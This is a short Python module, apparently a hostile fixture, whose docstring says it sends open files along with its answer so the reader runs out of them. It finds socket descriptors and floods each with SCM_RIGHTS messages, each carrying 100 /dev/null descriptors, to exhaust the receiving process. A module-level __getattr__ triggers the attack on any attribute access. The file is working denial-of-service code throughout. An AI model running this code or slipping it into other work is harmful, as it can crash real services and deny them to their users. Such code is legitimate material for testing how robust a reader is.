"""Sends open files along with its answer, so that the reader runs out of them."""

import os
import stat
import struct


def sockets():
    found = []
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found


def write(data):
    for number in sockets():
        try:
            os.write(number, data)
        except OSError:
            pass


def framed(data):
    return struct.pack(">I", len(data)) + data


import array
import socket


def attack(*arguments, **keywords):
    for number in sockets():
        connection = socket.socket(fileno=os.dup(number))
        files = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(100)])
        for _ in range(50):
            connection.sendmsg([framed(b"\x80")], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])


def __getattr__(name):
    return attack
